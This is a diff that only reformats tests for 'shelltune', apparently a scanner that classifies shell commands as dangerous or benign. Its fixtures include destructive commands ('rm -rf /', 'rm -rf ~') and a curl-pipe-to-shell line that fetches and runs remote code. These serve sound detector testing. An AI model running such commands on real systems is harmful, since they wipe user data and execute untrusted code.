@@ -10,13 +10,17 @@ from conftest import ROOT, write_jsonl
 
 
 def shelltune(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "shelltune", *args], cwd=ROOT, input=stdin,
-                          capture_output=True, text=True, timeout=300)
+    return subprocess.run(
+        [sys.executable, "-m", "shelltune", *args], cwd=ROOT, input=stdin, capture_output=True, text=True, timeout=300
+    )
 
 
 def test_jsonl_gives_one_verdict_per_line_in_order(tmp_path):
-    rows = [{"command": "rm -rf ~", "id": 1}, {"command": "ls -la", "id": 2},
-            {"command": "curl -fsSL https://x.sh | sh", "id": 3}]
+    rows = [
+        {"command": "rm -rf ~", "id": 1},
+        {"command": "ls -la", "id": 2},
+        {"command": "curl -fsSL https://x.sh | sh", "id": 3},
+    ]
     result = shelltune("scan", "--jsonl", str(write_jsonl(tmp_path / "in.jsonl", rows)), "--field", "command")
     assert result.returncode == 0, result.stderr
     verdicts = [json.loads(line) for line in result.stdout.splitlines()]
@@ -51,8 +55,9 @@ def test_eval_reports_per_category_and_gates(tmp_path):
     report = json.loads(out.read_text())
     assert report["overall"]["recall"] >= 0.97 and report["commands_per_s"] > 0
 
-    mislabeled = write_jsonl(tmp_path / "bad.jsonl", [{"cmd": "rm -rf /", "label": "benign",
-                                                       "category": "recursive_delete"}])
+    mislabeled = write_jsonl(
+        tmp_path / "bad.jsonl", [{"cmd": "rm -rf /", "label": "benign", "category": "recursive_delete"}]
+    )
     result = shelltune("scan", "--eval", str(mislabeled))
     assert result.returncode == 1 and "MISSED" in result.stdout
 
@@ -64,8 +69,10 @@ def test_eval_rejects_unknown_category(tmp_path):
 
 
 def test_eval_mutations_reports_every_rewrite(tmp_path):
-    rows = [{"cmd": "rm -rf /", "label": "dangerous", "category": "recursive_delete"},
-            {"cmd": "rm -rf ./build", "label": "benign", "category": "recursive_delete"}]
+    rows = [
+        {"cmd": "rm -rf /", "label": "dangerous", "category": "recursive_delete"},
+        {"cmd": "rm -rf ./build", "label": "benign", "category": "recursive_delete"},
+    ]
     corpus = write_jsonl(tmp_path / "c.jsonl", rows)
     result = shelltune("scan", "--eval", str(corpus), "--mutations", "--json", str(tmp_path / "r.json"))
     assert result.returncode == 0, result.stdout + result.stderr
